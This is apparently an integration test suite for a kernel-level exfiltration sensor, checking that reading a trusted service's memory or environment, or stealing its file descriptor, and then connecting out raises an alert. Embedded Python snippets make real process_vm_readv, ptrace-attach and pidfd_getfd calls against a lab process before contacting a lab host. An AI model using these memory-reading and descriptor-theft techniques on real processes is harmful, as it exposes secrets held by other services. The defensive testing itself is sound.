//! A trusted service (a homeserver) holds its secrets in memory: reading that memory —
//! `/proc/PID/environ`, `/proc/PID/mem`, `process_vm_readv`, ptrace attach — taints the
//! reader like reading the secret file would, while the service's own reads never taint.

use std::fs;

use anyhow::Result;
use integration_tests::{actor_exe, alert, host_tools, Lab, ALERT_TIMEOUT};
use serde_json::Value;

/// The service's name in the config, and so in its memory's label.
const SERVICE: &str = "test-homeserver";

/// The alert names the service's memory as the secret, reached through process memory.
fn assert_names_the_service_memory(alert: &Value, service_pid: u32) {
    let label = format!("memory of {SERVICE} (pid {service_pid})");
    assert_eq!(alert::secret_name(alert), Some(label.as_str()), "{alert:#}");
    assert_eq!(alert::secret_kind(alert), Some("process-memory"), "{alert:#}");
    assert_eq!(alert::file_path(alert), None, "a process's memory is no file: {alert:#}");
    assert_eq!(alert::via_kind(alert), Some("process-memory"), "{alert:#}");
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn reading_the_services_environment_taints_the_reader() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let service = lab.start_service()?;
    let sensor = lab.sensor_trusting_the_service(SERVICE)?;

    let environ = format!("/proc/{}/environ", service.pid);
    let run = lab.actor().read(&environ).tcp(lab.remote().tcp_v4()).run()?;

    let alert = sensor.expect(alert::is_exfiltration_by(run.pid), ALERT_TIMEOUT)?;
    assert_names_the_service_memory(&alert, service.pid);
    Ok(())
}

/// A procfs mounted by the test itself, unmounted when dropped (also when the test fails).
struct FreshProcfs(std::path::PathBuf);

impl Drop for FreshProcfs {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount").arg("-l").arg(&self.0).status();
    }
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn reading_the_environment_through_a_fresh_procfs_mount_taints_the_reader() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let service = lab.start_service()?;
    let sensor = lab.sensor_trusting_the_service(SERVICE)?;
    // A procfs of its own: another superblock and device number than /proc's.
    let mount = lab.dir().join("proc-again");
    fs::create_dir(&mount)?;
    host_tools::run("mount", &["-t".as_ref(), "proc".as_ref(), "proc".as_ref(), mount.as_os_str()])?;
    let mount = FreshProcfs(mount);

    let environ = mount.0.join(service.pid.to_string()).join("environ");
    let run = lab.actor().read(&environ).tcp(lab.remote().tcp_v4()).run()?;

    let alert = sensor.expect(alert::is_exfiltration_by(run.pid), ALERT_TIMEOUT)?;
    assert_names_the_service_memory(&alert, service.pid);
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn process_vm_readv_and_ptrace_attach_taint_the_caller() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let service = lab.start_service()?;
    let sensor = lab.sensor_trusting_the_service(SERVICE)?;
    let remote = lab.remote().tcp_v4();

    // Real syscalls from a real interpreter; the call being made is what counts, not its result.
    let vm_read = format!(
        "import ctypes, socket\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         class iovec(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\n\
         buf = ctypes.create_string_buffer(64)\n\
         local = iovec(ctypes.cast(buf, ctypes.c_void_p), 64)\n\
         far = iovec(0x10000, 64)\n\
         libc.process_vm_readv({pid}, ctypes.byref(local), 1, ctypes.byref(far), 1, 0)\n\
         socket.create_connection(('{ip}', {port}), timeout=5).close()\n",
        pid = service.pid,
        ip = remote.ip(),
        port = remote.port()
    );
    let attach = format!(
        "import ctypes, os, socket\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         if libc.ptrace(16, {pid}, 0, 0) == 0:\n    os.waitpid({pid}, 0)\n    libc.ptrace(17, {pid}, 0, 0)\n\
         socket.create_connection(('{ip}', {port}), timeout=5).close()\n",
        pid = service.pid,
        ip = remote.ip(),
        port = remote.port()
    );
    for script in [vm_read, attach] {
        let reader = host_tools::run("python3", &["-c", &script])?;
        let alert = sensor.expect(alert::is_exfiltration_by(reader), ALERT_TIMEOUT)?;
        assert_names_the_service_memory(&alert, service.pid);
    }
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn the_service_reading_its_own_secret_and_connecting_is_not_an_exfiltration() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let dest = lab.remote().tcp_v4();
    let secret = lab.secret().display().to_string();
    let sensor = lab.sensor_trusting(SERVICE, &["--read", &secret, "--tcp", &dest.to_string()])?;

    // Started after the sensor: it is recognised from its exec, not from a pid written down.
    let service = lab.actor().read(lab.secret()).tcp(dest).run()?;

    lab.barrier(&sensor)?;
    let alerts = sensor.lines_matching(alert::is_exfiltration_by(service.pid));
    assert!(alerts.is_empty(), "the trusted service alerted: {alerts:#?}");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn a_descriptor_taken_with_pidfd_getfd_and_read_taints_the_thief() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let sensor = lab.sensor()?;
    let remote = lab.remote().tcp_v4();
    // A holder that keeps the secret open (its open taints it; that is not under test).
    let holder = format!(
        "import sys, time\nf = open({secret:?})\nprint(f.fileno(), flush=True)\ntime.sleep(120)\n",
        secret = lab.secret().display().to_string()
    );
    let mut holder = std::process::Command::new("python3")
        .args(["-c", &holder])
        .stdout(std::process::Stdio::piped())
        .spawn()?;
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(holder.stdout.take().expect("piped")),
        &mut line,
    )?;
    let thief = format!(
        "import ctypes, os, socket\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         pidfd = os.pidfd_open({pid})\n\
         fd = libc.syscall(438, pidfd, {fd}, 0)\n\
         assert fd >= 0, ctypes.get_errno()\n\
         os.pread(fd, 64, 0)\n\
         socket.create_connection(('{ip}', {port}), timeout=5).close()\n",
        pid = holder.id(),
        fd = line.trim(),
        ip = remote.ip(),
        port = remote.port()
    );
    let result = host_tools::run("python3", &["-c", &thief]);
    holder.kill()?;
    holder.wait()?;
    let thief = result?;

    let alert = sensor.expect(alert::is_exfiltration_by(thief), ALERT_TIMEOUT)?;
    assert_eq!(alert::file_path(&alert), lab.secret().to_str(), "{alert:#}");
    assert_eq!(alert::origin_pid(&alert), Some(thief), "the thief took the secret itself: {alert:#}");
    Ok(())
}
